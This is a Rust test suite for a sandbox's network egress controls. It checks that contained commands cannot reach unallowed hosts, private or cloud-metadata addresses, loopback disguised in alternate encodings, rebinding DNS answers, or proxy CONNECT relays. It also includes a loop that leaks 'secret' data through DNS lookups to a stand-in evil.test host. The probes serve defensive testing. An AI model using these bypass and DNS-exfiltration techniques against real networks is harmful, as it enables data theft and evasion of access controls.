//! What is not dialled, each beside its control.

use std::net::SocketAddr;

use provost_core::containment::Rung;
use provost_core::policy::{Effect, LOOKED_UP};

use super::fixture::{BOTH, Net, Origin, Told};
use crate::support::{CONTAINED, Host};

const CURL: &str = "curl -sS -o /dev/stdout -D /dev/stderr";

#[test]
fn a_host_that_no_rule_allows() {
    for rung in CONTAINED {
        let origin = Origin::start();
        let net = Net::with_origin(&origin).on(rung).name("evil.test", &[origin.address]);
        let done = net.sh(&format!("{CURL} http://evil.test/ 2>&1"), Told::Yes);
        // Words that whoever reads the answer understands.
        done.assert_ok()
            .assert_says("HTTP/1.1 403 Forbidden")
            .assert_says("X-Provost-Refused: evil.test:80")
            .assert_says(
                "evil.test:80 was not dialled: the policy does not allow it (deny: rule `default net = deny`",
            )
            .assert_refused("evil.test:80", "does not allow it");
        assert_eq!(done.decisions(), [("evil.test:80".to_owned(), Effect::Deny)]);
        assert!(done.asked.is_empty(), "the host never looks it up: {:?}", done.asked);
        assert_eq!(origin.connections(), 0);
        assert_eq!(done.report.traffic.refused, 1);
        // Without the proxies there is no such name.
        let net = Net::with_origin(&origin).on(rung).name("evil.test", &[origin.address]);
        let done = net.sh("curl -sS http://evil.test/; test $? = 6", Told::No);
        done.assert_ok().assert_refused("evil.test", "does not allow it");
        assert_eq!(done.decisions(), [(format!("evil.test:{LOOKED_UP}"), Effect::Deny)]);
        assert!(done.asked.is_empty(), "{:?}", done.asked);
        // The control: a rule that allows it.
        let rules = ["evil.test:80", "127.0.0.1:80"];
        for told in BOTH {
            let net = Net::allowing(&rules).on(rung).name("evil.test", &[origin.address]);
            net.sh(&format!("{CURL} http://evil.test/"), told).assert_ok().assert_says("hello from origin");
        }
    }
}

#[test]
fn another_port_of_a_host_that_is_allowed() {
    for rung in CONTAINED {
        let origin = Origin::start();
        let port = origin.address.port();
        let done = Net::allowing(&["origin.test:80"])
            .on(rung)
            .sh(&format!("{CURL} http://origin.test:{port}/"), Told::Yes);
        done.assert_says("403").assert_refused(&format!("origin.test:{port}"), "does not allow it");
        assert!(done.asked.is_empty());
    }
}

/// Nobody can be asked in the middle of a connection.
#[test]
fn a_host_that_policy_asks_about() {
    for rung in CONTAINED {
        let origin = Origin::start();
        let net = Net::with_origin(&origin).on(rung).rule(Effect::Ask, "origin.test");
        let done = net.sh(&format!("{CURL} http://origin.test/"), Told::Yes);
        done.assert_says("nobody can be asked while a command runs").assert_refused("origin.test:80", "asks");
        assert_eq!(done.decisions(), [("origin.test:80".to_owned(), Effect::Ask)]);
        assert_eq!(origin.connections(), 0);
    }
}

#[test]
fn a_name_that_leads_to_a_private_address() {
    for rung in CONTAINED {
        let origin = Origin::start();
        let rules = ["origin.test:80"];
        for (address, kind) in
            [("127.0.0.1:80", "loopback"), ("169.254.169.254:80", "link-local"), ("10.0.0.1:80", "private")]
        {
            let address: SocketAddr = address.parse().unwrap();
            let net = Net::allowing(&rules).on(rung).name("origin.test", &[address]);
            let done = net.sh(&format!("{CURL} http://origin.test/"), Told::Yes);
            let why = format!("it leads to {}, a {kind} address", address.ip());
            done.assert_says("403 Forbidden").assert_says(&why).assert_refused("origin.test:80", &why);
            let [allowed, refused] = done.recorded.as_slice() else { panic!("{:?}", done.recorded) };
            assert!(allowed.private.is_empty());
            assert_eq!(refused.private, [address.ip()]);
            assert!(done.report.traffic.hosts.is_empty());
        }
        // The control is every other test: there the policy names the address.
        Net::with_origin(&origin)
            .on(rung)
            .sh(&format!("{CURL} http://origin.test/"), Told::Yes)
            .assert_says("hello");
    }
}

/// A glob is no name of an address.
#[test]
fn a_rule_for_every_host_is_none_for_a_private_address() {
    for rung in CONTAINED {
        let origin = Origin::start();
        let port = origin.address.port();
        let get = |net: Net, host: &str| {
            net.sh(&format!("{CURL} --noproxy '' -x http://127.0.0.1:3128 http://{host}:{port}/"), Told::No)
        };
        for host in ["127.0.0.1", "localhost", "2130706433", "0x7f.1", "[::1]", "[::ffff:127.0.0.1]"] {
            let mut net = Net::allowing(&["*"]).on(rung);
            if !host.starts_with('[') {
                // As the C library finds these.
                net = net.name(host, &[origin.address]);
            }
            get(net, host).assert_says("403 Forbidden").assert_says("which no rule of the policy names");
        }
        assert_eq!(origin.connections(), 0);
        let named = format!("127.0.0.1:{port}");
        get(Net::allowing(&["*", &named]).on(rung), "127.0.0.1").assert_says("hello from origin");
    }
}

/// Two answers, one of them private: the name server of a host that is allowed answers as it likes.
#[test]
fn rebinding() {
    for rung in CONTAINED {
        let origin = Origin::start();
        let port = origin.address.port();
        let public: SocketAddr = "203.0.113.7:80".parse().unwrap();
        for addresses in [[origin.address, public], [public, origin.address]] {
            let net =
                Net::allowing(&[&format!("origin.test:{port}")]).on(rung).name("origin.test", &addresses);
            let done = net.sh(&format!("{CURL} http://origin.test:{port}/"), Told::Yes);
            done.assert_says("403 Forbidden").assert_refused(&format!("origin.test:{port}"), "127.0.0.1");
        }
        assert_eq!(origin.connections(), 0);
        // A name is looked up once for a command: what it leads to later is not asked.
        let net = Net::with_origin(&origin).on(rung);
        let done = net.sh(&format!("for i in 1 2 3; do {CURL} http://origin.test/; done"), Told::No);
        assert_eq!(done.asked, ["origin.test"]);
        assert_eq!(done.decisions().len(), 1, "{:?}", done.recorded);
        assert_eq!(origin.connections(), 3);
    }
}

/// Names carry data, and nobody outside hears of one that is not allowed.
#[test]
fn dns_carries_nothing_out() {
    for rung in CONTAINED {
        let origin = Origin::start();
        let script = "import socket\n\
        for n in range(300):\n    \
            try: socket.getaddrinfo(f'secret{n}.evil.test', 80); print('found')\n    \
            except socket.gaierror: pass\n\
        for server in ('8.8.8.8', '198.18.0.1'):\n    \
            try: s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(0.2); s.sendto(b'x' * 40, (server, 53)); s.recv(100); print('answered')\n    \
            except OSError: pass\n\
        print(socket.getaddrinfo('origin.test', 80)[0][4][0])";
        let done = Net::with_origin(&origin).on(rung).py(script, Told::No);
        done.assert_ok();
        assert_eq!(done.ran.text.trim(), "198.18.0.1", "an address that means something inside only");
        assert!(done.asked.is_empty(), "{:?}", done.asked);
        // A bounded number is put on record; all are counted.
        assert_eq!(done.recorded.len(), provost_core::net::MOST_DECISIONS);
        assert_eq!(done.report.traffic.refused, 300);
        assert!(done.recorded.iter().all(|it| it.port == LOOKED_UP && it.decision.effect == Effect::Deny));
    }
}

/// What is bound to no listener has no way at all.
#[test]
fn addresses_beside_the_names_are_not_there() {
    let origin = Origin::start();
    let port = origin.address.port();
    let script = format!(
        "import socket\n\
        def dial(host, port):\n    \
            try: socket.create_connection((host, port), 2); return 'dialled'\n    \
            except OSError as e: return type(e).__name__\n\
        assert dial('127.0.0.1', {port}) == 'ConnectionRefusedError'\n\
        assert dial('93.184.215.14', 443) == 'OSError', dial('93.184.215.14', 443)\n\
        assert dial('169.254.169.254', 80) == 'OSError'\n\
        assert dial('198.18.0.1', 22) == 'ConnectionRefusedError'"
    );
    let done = Net::with_origin(&origin).py(&script, Told::No);
    done.assert_ok();
    assert_eq!(origin.connections(), 0);
    // The control, uncontained: there is somebody.
    let control = format!("import socket\nsocket.create_connection(('127.0.0.1', {port}), 2)");
    Host::new().py(Rung::R0, &control).assert_ok();
}

/// A relay in the sandbox gains nothing: whose connection it is follows from the listener, and a proxy behind the proxy
/// is a host like any.
#[test]
fn connect_through_a_relay() {
    for rung in CONTAINED {
        let origin = Origin::start();
        let port = origin.address.port();
        let script = format!(
            "import socket\n\
        def ask(s, text):\n    s.sendall(text.encode()); return s.recv(4096).decode()\n\
        def proxy(): return socket.create_connection(('127.0.0.1', 3128), 5)\n\
        for target in ('127.0.0.1:3128', '127.0.0.1:{port}', 'localhost:{port}', '198.18.0.1:{port}'):\n    \
            head = f'CONNECT {{target}} HTTP/1.1\\r\\nHost: origin.test:80\\r\\n\\r\\n'\n    \
            assert ' 403 ' in ask(proxy(), head), target\n\
        s = proxy()\n\
        assert ' 200 ' in ask(s, 'CONNECT origin.test:80 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n\
        said = ask(s, 'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: origin.test\\r\\n\\r\\n')\n\
        assert ' 403 ' in said, said"
        );
        let rules = ["origin.test:80", "127.0.0.1:80"];
        let done =
            Net::allowing(&rules).on(rung).name("origin.test", &[origin.address]).py(&script, Told::No);
        done.assert_ok();
        assert!(origin.seen().is_empty(), "{:?}", origin.seen());
    }
}

/// A decision that cannot be put on record is none.
#[test]
fn what_is_not_on_record_is_not_dialled() {
    struct Broken;
    impl provost_sandbox::Record for Broken {
        fn record(&self, _: provost_sandbox::HostDecision) -> Result<(), provost_sandbox::NotRecorded> {
            Err(provost_sandbox::NotRecorded)
        }
    }
    let origin = Origin::start();
    let policy = provost_core::policy::Policy::preset(provost_core::policy::Preset::Workspace);
    let layer = provost_core::policy::Layer::named("hosts");
    let layer = layer.rule(Effect::Allow, &format!("net 127.0.0.1:{}", origin.address.port())).unwrap();
    let host = Host::new();
    let line = format!("{CURL} --noproxy '' -x http://127.0.0.1:3128 http://{}/", origin.address);
    let mut command = host.command(&["sh", "-c", &line]);
    let egress = provost_sandbox::Egress::new(policy.with(layer).into(), std::sync::Arc::new(Broken));
    command.egress = Some(egress);
    for rung in CONTAINED {
        command.record_dir = host.record_dir();
        let ran = host.run_with(rung, host.profile(), &command);
        assert!(ran.text.contains("could not be put on record"), "{}", ran.text);
    }
    assert_eq!(origin.connections(), 0);
}

/// Limits alone have no network to give, and nothing runs without the one that it was meant to have.
#[test]
fn a_weaker_rung_does_not_take_one() {
    let origin = Origin::start();
    let net = Net::with_origin(&origin);
    for rung in [Rung::R1, Rung::R0] {
        let mut command = net.command(&["true"], Told::No);
        let record = std::sync::Arc::new(super::fixture::Recorded::default());
        let policy = provost_core::policy::Policy::preset(provost_core::policy::Preset::Workspace);
        command.egress = Some(provost_sandbox::Egress::new(policy.into(), record));
        let failed = net.host.try_run(rung, net.host.profile(), &command).unwrap_err();
        assert!(failed.to_string().contains("egress"), "{failed}");
    }
}
